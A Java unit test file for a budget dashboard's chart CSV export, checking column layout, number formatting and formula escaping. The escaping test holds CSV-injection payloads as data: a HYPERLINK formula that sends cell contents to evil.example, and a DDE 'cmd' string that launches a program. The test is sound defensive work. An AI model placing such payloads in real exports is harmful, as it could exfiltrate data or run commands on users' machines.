package com.perfdash.base.chart;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The chart toolbar's "下载 CSV": the chart's categories and series as the app's own CSV. */
class ChartCsvTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"青禾区民政局\")";

    private static List<CSVRecord> records(byte[] csv) throws IOException {
        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        return CSVFormat.DEFAULT.parse(new StringReader(new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8))).getRecords();
    }

    private static byte[] csv(ChartOptions options) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ChartCsv.write(options, out);
        return out.toByteArray();
    }

    @Test
    void a_row_per_category_a_column_per_series_with_amounts_rates_and_points_as_the_grids_write_them() throws IOException {
        ChartOptions options = ChartBuilder.create(Locale.CHINA)
                .title("预算执行").fileName("预算执行趋势", null).categories(List.of("2019", "2020"), "年度")
                .axis("金额（万元）", ValueFormat.WAN_YUAN)
                .column("全年预算数（万元）", List.of(new BigDecimal("516.66"), new BigDecimal("-3.5")))
                .axis("执行率（%）", ValueFormat.PERCENT)
                .line("执行率", Arrays.asList(new BigDecimal("100"), null))
                .axis("得分", ValueFormat.POINTS)
                .line("总得分", List.of(92, new BigDecimal("88.5")))
                .build();
        List<CSVRecord> rows = records(csv(options));
        assertThat(rows).hasSize(3);
        assertThat(rows.get(0).toList()).containsExactly("年度", "全年预算数（万元）", "执行率", "总得分");
        assertThat(rows.get(1).toList()).containsExactly("2019", "516.66", "100.0%", "92.00");
        // a negative amount stays a number; a missing value is an empty cell, never 0
        assertThat(rows.get(2).toList()).containsExactly("2020", "-3.50", "", "88.50");
        assertThat(ChartCsv.fileName(options)).isEqualTo("2019-2020年度预算执行趋势.csv");
    }

    @Test
    void a_series_or_category_named_like_a_formula_is_written_as_text() throws IOException {
        ChartOptions options = ChartBuilder.create(Locale.CHINA)
                .categories(List.of("-2+3+cmd|' /C calc'!A0", "＝1+1"), "预算单位")
                .axis("金额（万元）", ValueFormat.WAN_YUAN)
                .column(HYPERLINK, List.of(new BigDecimal("1"), new BigDecimal("-2")))
                .build();
        List<CSVRecord> rows = records(csv(options));
        assertThat(rows.get(0).toList()).containsExactly("预算单位", "'" + HYPERLINK);
        assertThat(rows.get(1).toList()).containsExactly("'-2+3+cmd|' /C calc'!A0", "1.00");
        assertThat(rows.get(2).toList()).containsExactly("'＝1+1", "-2.00");
    }
}
